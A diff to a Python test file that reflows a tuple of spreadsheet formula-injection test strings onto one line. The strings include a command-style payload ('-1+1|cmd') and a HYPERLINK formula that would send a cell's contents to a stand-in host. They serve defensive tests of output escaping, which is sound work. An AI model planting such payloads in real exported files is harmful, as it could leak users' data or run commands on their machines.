@@ -317,19 +317,8 @@ def test_times_of_numpy_are_times_and_not_counts():
 
 DANGEROUS = tuple("=+-@\t\r\n")
 FORMULAS = (
-    "=1+1",
-    "+1+1",
-    "-1+1|cmd",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    '=HYPERLINK("http://x?"&A1)',
-    "=",
-    "+",
-    "-",
-    "@",
-    "'=1",
-)
+    "=1+1", "+1+1", "-1+1|cmd", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x?"&A1)', "=", "+", "-", "@", "'=1",
+)  # fmt: skip
 
 texts = st.text(st.sampled_from("=+-@'\t\r\n1.e a,\""), max_size=8)
 
